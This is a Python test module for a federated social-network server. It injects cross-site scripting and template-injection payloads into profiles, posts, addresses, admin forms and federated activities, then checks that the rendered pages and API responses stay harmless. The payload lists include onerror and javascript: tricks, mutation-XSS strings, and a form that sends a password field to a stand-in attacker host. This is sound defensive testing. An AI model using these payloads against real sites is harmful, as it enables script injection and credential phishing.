"""Scripts in every text that somebody can write, here or elsewhere: they run on no page and in no app."""

from collections.abc import Iterator, Sequence
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from bs4 import BeautifulSoup, Tag

from tests.attacks.foe import PUBLIC, Foe
from tests.attacks.test_oauth import form
from tests.doors.askers import Person, picture
from tests.nodes import eventually, settled
from tests.sites import LocalNode

pytestmark = pytest.mark.asyncio(loop_scope="module")

SHORT = [
    '"><img src=x onerror=alert(7)>',
    "'><svg/onload=alert(7)>",
    "<script>alert(7)</script>",
    "</title></textarea><script>7",
    "javascript:alert(7)//",
    "{{'mo'~'teur7'}}${'mo'+'teur7'}{%x%}",
    "<a href=javascript:alert(7)>",
    "&lt;script&gt;alert(7)&lt;/script&gt;",
]
"""Short enough for a display name."""
LONG = [
    *SHORT,
    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x><base href=//evil.example>",
    "<form action=https://evil.example><input name=password></form><meta http-equiv=refresh content=0>",
    '<noscript><p title="</noscript><img src=x onerror=alert(7)>"></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(7)&gt;">',
    "<svg><style><img src=x onerror=alert(7)></style></svg><style>@import '//evil.example'</style>",
    '<a href="java&#10;script:alert(7)">x</a><a href=" javascript:alert(7)">x</a><a href="data:text/html,x">x</a>',
    '<p style="position:fixed" class="button" id="main" onclick="alert(7)">x</p>',
    "<img src=x onerror=alert(7)//<p/onmouseover=alert(7)>x<!--><script>alert(7)</script>-->",
    '[x](javascript:alert(7)) https://evil.example/"onmouseover=alert(7) @amina"onclick=alert(7) #<script>',
]
IN_HTML = {
    "a", "p", "br", "span", "em", "strong", "b", "i", "u", "del", "s", "code", "pre", "blockquote", "ul", "ol", "li",
    "h1", "h2", "h3", "h4", "h5", "h6", "small", "sub", "sup", "ruby", "rt", "rp", "abbr", "hr", "ins",
}  # fmt: skip
NEVER = {
    "iframe",
    "object",
    "embed",
    "base",
    "frame",
    "frameset",
    "applet",
    "math",
    "style",
    "audio",
    "video",
    "portal",
}
SCHEMES = ("", "http", "https", "mailto")


def dangers(html: str, *, is_page: bool) -> Iterator[str]:
    """Everything in the HTML that could run, lead or look otherwise than we wrote it."""
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        assert isinstance(tag, Tag)
        attributes = {name.lower(): str(value) for name, value in tag.attrs.items()}
        yield from (f"<{tag.name} {name}>" for name in attributes if name.startswith("on") or name == "style")
        yield from (
            f"<{tag.name} {name}={attributes[name]}>"
            for name in ("href", "src", "action", "formaction", "data", "xlink:href", "poster")
            if name in attributes and urlsplit(attributes[name].strip()).scheme.lower() not in SCHEMES
        )
        if tag.name in NEVER or (not is_page and tag.name not in IN_HTML):
            yield f"<{tag.name}>"
        if tag.name == "script" and not attributes.get("src", "").startswith("/static/"):
            yield f"<script>{tag.get_text()[:40]}"
        if tag.name == "meta" and "http-equiv" in attributes:
            yield "<meta http-equiv>"
        if tag.name == "form" and not attributes.get("action", "/").startswith("/"):
            yield f"<form action={attributes['action']}>"
        if tag.name == "img" and attributes.get("src") == "x":
            yield "<img src=x>"
    if "moteur7" in html:
        yield "a template was evaluated"


async def assert_safe(asker: Person, pages: Sequence[str]) -> None:
    """None of the pages holds anything that somebody else wrote as HTML."""
    for path in pages:
        reply = await asker.ask("GET", path)
        assert reply.status < 500, path
        if "html" in reply.headers.get("content-type", ""):
            assert not list(dangers(reply.text, is_page=True)), path
            assert "unsafe" not in reply.headers["content-security-policy"]


def html_in(value: Any, name: str = "") -> Iterator[str]:
    """The texts of an answer of the API that apps show as HTML."""
    if isinstance(value, dict):
        for key, one in value.items():
            # The source is what was typed, for an editor.
            yield from () if key == "source" else html_in(one, key)
    elif isinstance(value, list):
        for one in value:
            yield from html_in(one, name)
    elif isinstance(value, str) and name in ("content", "note", "value"):
        yield value


async def assert_safe_answers(asker: Person, paths: Sequence[str]) -> None:
    """No HTML of the API's answers holds anything but harmless marks, and every address is of the web."""
    for path in paths:
        found = (await asker.ask("GET", path)).json
        for html in html_in(found):
            assert not list(dangers(html, is_page=False)), (path, html)
        for key, url in _urls(found):
            assert urlsplit(url).scheme in SCHEMES, (path, key, url)


def _urls(value: Any, name: str = "") -> Iterator[tuple[str, str]]:
    if isinstance(value, dict):
        for key, one in value.items():
            yield from _urls(one, key)
    elif isinstance(value, list):
        for one in value:
            yield from _urls(one, name)
    elif isinstance(value, str) and name in ("url", "uri", "avatar", "header", "preview_url", "remote_url", "website"):
        yield name, value


@pytest.mark.parametrize("text", SHORT)
async def test_a_profile_is_text(usine: LocalNode, mallory: Person, amina: Person, text: str) -> None:
    fields = {"fields_attributes[0][name]": text, "fields_attributes[0][value]": text}
    change = await mallory.ask(
        "PATCH", "/api/v1/accounts/update_credentials", {"display_name": text, "note": f"{text} #{text}", **fields}
    )
    assert change.status == 200, change.text
    page = {"display_name": text, "job": text, "note": text, "field_name": text, "field_value": text}
    assert (await mallory.ask("POST", "/settings/profile", page)).status == 303
    await usine.api("POST", f"/api/v1/accounts/{mallory.account}/follow", amina.person)
    pages = ["/@mallory", "/@amina/following", f"/people/{mallory.account}/block", "/search?q=mallory"]
    await assert_safe(amina, pages)
    await assert_safe(mallory, ["/settings", "/"])
    mine = "/api/v1/accounts/verify_credentials"
    await assert_safe_answers(mallory, [mine])
    await assert_safe_answers(amina, [f"/api/v1/accounts/{mallory.account}", "/api/v1/directory?local=true"])


@pytest.mark.parametrize("text", LONG)
async def test_a_post_is_text(usine: LocalNode, mallory: Person, amina: Person, text: str) -> None:
    uploaded = await mallory.upload(picture(), text)
    post = await usine.say(
        mallory.person, f"@amina {text} #{text}", spoiler_text=text, media_ids=[uploaded], language="fr"
    )
    await usine.api("PUT", f"/api/v1/statuses/{post['id']}", mallory.person, status=f"{text} encore", spoiler_text=text)
    await settled(usine)
    id = post["id"]
    place = f"/@mallory/{id}"
    await assert_safe(
        amina, ["/group", "/notifications", place, f"{place}/history", f"/compose?reply={id}", "/@mallory"]
    )
    await assert_safe(mallory, ["/", f"/posts/{id}/edit", f"/posts/{id}/delete", "/live/home?since=1"])
    await assert_safe_answers(
        amina, [f"/api/v1/statuses/{id}", f"/api/v1/statuses/{id}/history", "/api/v1/notifications"]
    )
    await usine.api("DELETE", f"/api/v1/statuses/{id}", mallory.person, delete_media=True)


@pytest.mark.parametrize("text", LONG)
async def test_words_of_an_address_are_words_on_the_page(
    usine: LocalNode, amina: Person, nobody: Person, text: str
) -> None:
    coded = quote(text, safe="")
    await assert_safe(
        amina,
        [
            f"/search?q={coded}", f"/tags/{coded}", f"/compose?text={coded}&to={coded}", f"/@{coded}", f"/{coded}",
            f"/@amina/{coded}", f"/?done={coded}&before={coded}", f"/oauth/authorize?client_id={coded}&scope={coded}",
        ],
    )  # fmt: skip
    await assert_safe(nobody, [f"/sign-in?next={coded}&lang={coded}", f"/invitation/{coded}", f"/{coded}?lang={coded}"])
    failed = await nobody.ask("POST", "/sign-in", {"name": text, "password": "x", "next": text})
    assert not list(dangers(failed.text, is_page=True))


@pytest.mark.parametrize("text", SHORT)
async def test_what_administrators_read_is_text(usine: LocalNode, chief: Person, mallory: Person, text: str) -> None:
    await mallory.ask("PATCH", "/api/v1/accounts/update_credentials", {"display_name": text})
    await form(usine, "/api/v1/apps", {"client_name": text, "redirect_uris": "https://x.example/", "website": text})
    for path, fields in (
        ("/admin/invitations", {"note": text}),
        ("/admin/peers", {"host": text}),
        ("/admin/create", {"username": text, "display_name": text, "email": text, "password": "x"}),
    ):
        answered = await chief.ask("POST", path, fields)
        assert answered.status < 500
        assert not list(dangers(answered.text, is_page=True)), path
    agent = Person(usine, "attacker", mallory.person, mallory.cookie)
    await agent.ask("GET", "/settings/account", headers={"User-Agent": text})
    pages = ["/admin/people", f"/admin/people/{mallory.account}", "/admin/invitations", "/admin/peers"]
    await assert_safe(chief, pages)
    await assert_safe(mallory, ["/settings/account", "/settings/apps", "/settings/silence"])


@pytest.mark.parametrize("number", range(len(LONG)))
async def test_what_comes_from_elsewhere_is_harmless(usine: LocalNode, foe: Foe, amina: Person, number: int) -> None:
    text = LONG[number]
    me = usine.urls.actor("amina")
    author = foe.actor(
        f"script{number}",
        name=text,
        summary=f"<p>{text}</p>",
        url="javascript:alert(7)",
        icon={"type": "Image", "mediaType": "image/png", "url": "javascript:alert(7)"},
        attachment=[{"type": "PropertyValue", "name": text, "value": text}],
        tag=[{"type": "Emoji", "name": text, "icon": {"type": "Image", "url": "javascript:alert(7)"}}],
    )
    activity = foe.create(
        author,
        f"<p>{text}</p>",
        to=[PUBLIC, me],
        summary=text,
        name=text,
        url=f"javascript:alert({number})",
        contentMap={"fr": text, "<x": text},
        attachment=[{"type": "Document", "mediaType": "image/png", "url": "javascript:alert(7)", "name": text}],
        tag=[
            {"type": "Mention", "href": me, "name": text},
            {"type": "Hashtag", "href": "javascript:alert(7)", "name": f"#{text}"},
            {"type": "Hashtag", "href": "javascript:alert(7)", "name": "#harmless"},
        ],
    )
    assert await foe.tell(usine, activity) == 202
    await settled(usine)
    mentions = "/api/v1/notifications?types[]=mention&limit=80"

    async def arrived() -> Any:
        told = (await amina.ask("GET", mentions)).json
        return next((one for one in told if one["status"]["uri"] == activity["object"]["id"]), None)

    told = await eventually(arrived)
    id, acct = told["status"]["id"], told["account"]["acct"]
    await assert_safe_answers(amina, [mentions, f"/api/v1/statuses/{id}", f"/api/v1/accounts/{told['account']['id']}"])
    place = f"/@{acct}/{id}"
    await assert_safe(amina, ["/notifications", place, f"/@{acct}", f"{place}/history", f"/compose?reply={id}"])
    for one in (told["account"]["url"], told["status"]["url"]):
        assert one is None or urlsplit(one).scheme == "http"


async def test_the_eye_of_these_tests_sees_each_danger() -> None:
    seen = [text for text in LONG if list(dangers(text, is_page=True)) or list(dangers(text, is_page=False))]
    assert set(LONG) - set(seen) <= {text for text in LONG if "<" not in text.replace("#<script>", "")}
